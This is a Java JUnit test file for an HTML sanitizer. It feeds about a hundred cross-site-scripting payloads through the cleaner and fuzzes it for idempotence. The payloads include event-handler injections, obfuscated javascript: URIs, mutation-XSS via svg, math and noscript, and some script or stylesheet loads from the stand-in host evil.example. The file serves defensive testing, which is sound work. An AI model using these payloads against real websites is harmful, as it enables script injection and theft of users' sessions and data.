package io.wireroom.normalize.body;

import static org.assertj.core.api.Assertions.assertThat;

import io.wireroom.normalize.link.LinkResolver;
import io.wireroom.normalize.link.WebUrl;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Nothing that can run survives, in any markup, and cleaning twice is cleaning once. */
class BodyAttackTest {
    private static final Set<String> ALLOWED =
            Set.of(("p br h2 h3 h4 ul ol li blockquote pre code em strong i b u s sub sup hr a img"
                            + " figure figcaption table thead tbody tr th td")
                    .split(" "));
    private static final Pattern TAG = Pattern.compile("<(/?)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>");
    private static final Pattern ATTRIBUTE = Pattern.compile(" ([a-z]+)=\"([^\"]*)\"");
    private static final LinkResolver LINKS =
            new LinkResolver(WebUrl.parse("https://harbor.example/a/b").orElseThrow());

    static List<String> payloads() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<<script>alert(1)//<</script>",
                "<script/xss src=//evil.example></script>",
                "<script\u0000>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<img src=\"x\" onerror=\"alert(1)\" OnLoad=alert(2)>",
                "<img src=`javascript:alert(1)`>",
                "<img src=javascript:alert(1)>",
                "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src='https://a.example/\" onerror=\"alert(1)'>",
                "<img srcset='javascript:alert(1) 1x' src='x'>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href=' &#14; javascript:alert(1)'>x</a>",
                "<a href='jav&#x09;ascript:alert(1)'>x</a>",
                "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
                "<a href='java\u0000script:alert(1)'>x</a>",
                "<a href='&#106;avascript&colon;alert(1)'>x</a>",
                "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
                "<a href='\u0001javascript:alert(1)'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
                "<a href='view-source:javascript:alert(1)'>x</a>",
                "<a href='feed:javascript:alert(1)'>x</a>",
                "<a href='https://good.example\\@evil.example'>x</a>",
                "<a href='//user@evil.example'>x</a>",
                "<a href=\"https://a.example/'onmouseover='alert(1)\">x</a>",
                "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
                "<a href='x' style='behavior:url(x)' onfocus=alert(1) autofocus>x</a>",
                "<a ping='https://evil.example' download href=https://a.example>x</a>",
                "<base href='javascript://'><a href='alert(1)'>x</a>",
                "<base href='https://evil.example/'><img src='x.png'>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x></svg>",
                "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><img src=x onerror=alert(1)></template>",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
                "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
                "<style>@import'//evil.example';</style>",
                "<style><!--</style><script>alert(1)//--></script>",
                "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
                "<noembed><img src=x onerror=alert(1)></noembed>",
                "<noframes><p title='</noframes><svg onload=alert(1)>'>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe src='https://a.example/' title='\"><script>alert(1)</script>'></iframe>",
                "<iframe data-src='https://a.example/\"onload=\"alert(1)'></iframe>",
                "<amp-youtube data-videoid='x\"><script>alert(1)</script>'></amp-youtube>",
                "<iframe src='https://www.facebook.com/plugins/video.php?href=javascript%3Aalert(1)'></iframe>",
                "<video poster=javascript:alert(1)><source src='https://a.example/\"x'></video>",
                "<img data-src=javascript:alert(1) src='data:image/gif;base64,AA'>",
                "<img srcset='javascript:alert(1) 1x, https://a.example/\"x 2x'>",
                "<img class=emoji alt='<script>alert(1)</script>' src=x>",
                "<noscript><img src='https://a.example/\"x' onerror=alert(1)></noscript>",
                "<p dir='rtl\" onclick=\"alert(1)' lang='\"><script>'>x</p>",
                "<div hidden><script>alert(1)</script></div><p style='display:none' onclick=alert(1)>x",
                "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<applet code=x.class></applet>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<button formaction=javascript:alert(1)>x</button>",
                "<form action=javascript:alert(1)><input type=submit></form>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
                "<div style='background:url(javascript:alert(1))'>x</div>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!-- --!><img src=x onerror=alert(1)> -->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version='1.0'?><?php echo '<script>alert(1)</script>' ?>",
                "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
                "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>",
                "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
                "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
                "<a href='https://a.example'><a href='javascript:alert(1)'>x</a></a>",
                "<b <script>alert(1)</script>0",
                "<x onclick=alert(1)>x</x><custom-element oncopy=alert(1)>y</custom-element>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "<p/onclick=alert(1)>x",
                "<a href='ja\u00advascript:alert(1)'>x</a>",
                "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void removesEverythingExecutable(String payload) {
        for (String frame :
                List.of("%s", "<p>%s</p>", "<table><tr>%s</table>", "<ul><li>%s", "<b><a href=x>%s", "<pre>%s</pre>")) {
            assertHarmless(frame.formatted(payload));
        }
    }

    @Test
    void cleaningIsIdempotentForRandomMarkup() {
        var random = new Random(20260301);
        List<String> payloads = payloads();
        for (int i = 0; i < 6_000; i++) {
            var html = new StringBuilder();
            for (int piece = random.nextInt(30); piece >= 0; piece--) {
                html.append(
                        random.nextInt(12) == 0 ? payloads.get(random.nextInt(payloads.size())) : Pieces.next(random));
            }
            assertHarmless(html.toString());
        }
    }

    private static void assertHarmless(String html) {
        CleanBody body = BodyPolicy.clean(html, LINKS);
        assertThat(BodyPolicy.clean(body.html(), LINKS).html()).as(html).isEqualTo(body.html());
        String rest = TAG.matcher(body.html()).replaceAll("");
        assertThat(rest).as(html).doesNotContain("<").doesNotContain(">");
        Matcher tag = TAG.matcher(body.html());
        while (tag.find()) {
            assertThat(ALLOWED).as(html).contains(tag.group(2));
            ATTRIBUTE
                    .matcher(tag.group(3))
                    .results()
                    .forEach(attribute -> assertAllowed(attribute.group(1), attribute.group(2)));
        }
    }

    private static void assertAllowed(String name, String value) {
        switch (name) {
            case "href" -> assertThat(value).matches("(?i)(https?://[^/@\\\\]+([/?#].*)?|mailto:.+)");
            case "src" -> assertThat(value).matches("(?i)https?://[^/@\\\\]+([/?#].*)?");
            case "rel" -> assertThat(value).isEqualTo("nofollow");
            case "target" -> assertThat(value).isEqualTo("_blank");
            case "dir" -> assertThat(value).isIn("ltr", "rtl", "auto");
            case "lang" -> assertThat(value).matches("[A-Za-z0-9-]{2,64}");
            case "reversed" -> assertThat(value).isEmpty();
            case "type" -> assertThat(value).isIn("a", "A", "i", "I");
            case "scope" -> assertThat(value).isIn("row", "col", "rowgroup", "colgroup");
            case "start", "value" -> assertThat(value).matches("-?[0-9]+");
            case "alt", "title" -> assertThat(value).doesNotContain("\"");
            default -> {
                assertThat(name).isIn("width", "height", "colspan", "rowspan");
                assertThat(value).matches("[0-9]+");
            }
        }
    }

    /** Markup that parsers trip over. */
    private static final class Pieces {
        private static final List<String> TAGS = List.of(
                ("p br h1 h2 h3 h6 ul ol li blockquote pre code em strong i b u s sub sup hr a img figure figcaption table thead"
                                + " tbody tfoot tr th td div section span font center nobr button form select option caption"
                                + " colgroup col dl dt dd picture source noscript iframe video audio amp-img lite-youtube bdo dialog abbr svg math mtext foreignObject title style template noscript textarea"
                                + " address marquee object ruby rt html body head main x-y summary details fieldset listing")
                        .split(" "));
        private static final List<String> TEXTS = List.of(
                "word",
                " ",
                "\n",
                "\n\n",
                "a b",
                "&amp;",
                "&lt;b&gt;",
                "&",
                "<",
                ">",
                "\"",
                "'",
                "\t",
                "&nbsp;",
                "\r\n",
                "&#13;",
                "&#0;",
                "<!-- c -->",
                "<!--",
                "-->",
                "<![CDATA[x]]>",
                "]]>",
                "</",
                "é",
                "\ud83d\ude80",
                "\u0301");
        private static final List<String> ATTRIBUTES = List.of(
                " href=x",
                " href='https://a.example/?a=1&b=\"2\"'",
                " href=javascript:x",
                " src=y.png",
                " src='https://a.example/i.png'",
                " onclick=x",
                " style='x'",
                " colspan=2",
                " alt='a\"b<c'",
                " start=4",
                " width=10",
                " color=red",
                " dir=rtl",
                " dir=LTR lang=en_US",
                " lang=fr",
                " lang='\"x'",
                " hidden",
                " style='display:none'",
                " data-src='https://a.example/l.png'",
                " srcset='https://a.example/1.png 1x, z.png 2x'",
                " class='emoji lazy'",
                " title='a\"b<c'",
                " src='https://www.youtube.com/embed/abcdefgh?start=4'",
                " /");

        static String next(Random random) {
            return switch (random.nextInt(5)) {
                case 0, 1 -> "<" + any(random, TAGS) + (random.nextInt(3) == 0 ? any(random, ATTRIBUTES) : "") + ">";
                case 2 -> "</" + any(random, TAGS) + ">";
                default -> any(random, TEXTS);
            };
        }

        private static String any(Random random, List<String> list) {
            return list.get(random.nextInt(list.size()));
        }
    }
}
